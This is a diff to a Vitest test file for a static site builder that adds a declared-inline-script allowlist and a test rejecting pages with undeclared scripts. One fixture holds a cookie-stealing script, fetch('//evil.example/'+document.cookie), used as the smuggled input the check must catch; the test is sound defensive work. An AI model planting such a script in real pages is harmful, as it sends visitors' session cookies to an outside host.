@@ -2,7 +2,7 @@ import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { inlineScriptHashes } from '#builder/hosting/csp.ts';
+import { inlineScriptHashes, scriptHash } from '#builder/hosting/csp.ts';
 import { createModuleGraph } from '#builder/generator/module-preload.ts';
 import type { RenderFunction } from '#builder/generator/render-entry.ts';
 import { type PageResult, pageWriter, renderJobs } from '#builder/generator/render-pages.ts';
@@ -38,10 +38,13 @@ const render: RenderFunction = async (request, locals) => {
   return new Response(`<html><head></head><body><p>${pathname}</p><script>go()</script></body></html>`, { status: 200 });
 };
 
+/** The inline scripts these pages' code declares. */
+const declaredScripts = new Set(['go()', "alert('zażółć')"].map(scriptHash));
+
 describe('pageWriter and renderJobs', () => {
   it('write each page as a file with what it read, its tags and its inline script hashes', async () => {
     const out = path.join(work, 'pages');
-    const write = pageWriter({ render, site, outDir: out, fresh: true });
+    const write = pageWriter({ render, declaredScripts, site, outDir: out, fresh: true });
     const results: PageResult[] = [];
     await renderJobs(
       [
@@ -64,7 +67,14 @@ describe('pageWriter and renderJobs', () => {
       url === '/_astro/Search.js' ? 'import"./jsx.js";' : url === '/_astro/jsx.js' ? '' : null,
     );
     const out = path.join(work, 'preloads');
-    const write = pageWriter({ render: async () => new Response(page), site, outDir: out, modules, fresh: true });
+    const write = pageWriter({
+      render: async () => new Response(page),
+      declaredScripts,
+      site,
+      outDir: out,
+      modules,
+      fresh: true,
+    });
     const result = await write({ path: '/szukaj/', status: 200 });
     const links = '<link rel="modulepreload" href="/_astro/Search.js"><link rel="modulepreload" href="/_astro/jsx.js">';
     expect(await readFile(path.join(out, 'szukaj/index.html'), 'utf8')).toBe(page.replace('</head>', `${links}</head>`));
@@ -73,7 +83,7 @@ describe('pageWriter and renderJobs', () => {
 
   it('fail with the error the page reported, once every lane has stopped writing', async () => {
     const out = path.join(work, 'staging');
-    const write = pageWriter({ render, site, outDir: out });
+    const write = pageWriter({ render, declaredScripts, site, outDir: out });
     const jobs = [
       ...Array.from({ length: 6 }, (_, i) => ({ path: `/p${i}/`, status: 200 })),
       { path: '/bad/', status: 200 },
@@ -87,8 +97,28 @@ describe('pageWriter and renderJobs', () => {
     await rm(out, { recursive: true });
   });
 
+  it('fail on a page carrying an executable inline script the code does not declare, naming the page and the script', async () => {
+    const smuggled = `<html><head></head><body><script>go()</script><div><script>fetch('//evil.example/'+document.cookie)</script></div><script type="application/ld+json">{}</script></body></html>`;
+    const out = path.join(work, 'undeclared');
+    const write = pageWriter({ render: async () => new Response(smuggled), declaredScripts, site, outDir: out, fresh: true });
+    await expect(write({ path: '/aktualnosci/x/', status: 200 })).rejects.toThrow(
+      `/aktualnosci/x/: an inline script the code does not declare ("fetch('//evil.example/'+document.cookie)")`,
+    );
+    // Nothing was written for it: the staging folder never holds the page.
+    await expect(readFile(path.join(out, 'aktualnosci/x/index.html'))).rejects.toThrow();
+    // Data scripts (JSON-LD) and declared ones pass.
+    const clean = pageWriter({
+      render: async () => new Response(smuggled.replace(/<div>.*<\/div>/, '')),
+      declaredScripts,
+      site,
+      outDir: out,
+      fresh: true,
+    });
+    expect((await clean({ path: '/aktualnosci/y/', status: 200 })).scriptHashes).toEqual([scriptHash('go()')]);
+  });
+
   it('fail with the status when the page reported nothing', async () => {
-    const write = pageWriter({ render, site, outDir: path.join(work, 'status') });
+    const write = pageWriter({ render, declaredScripts, site, outDir: path.join(work, 'status') });
     await expect(renderJobs([{ path: '/a/', status: 404 }], write, () => {})).rejects.toThrow(
       '/a/: rendered with status 200, expected 404',
     );
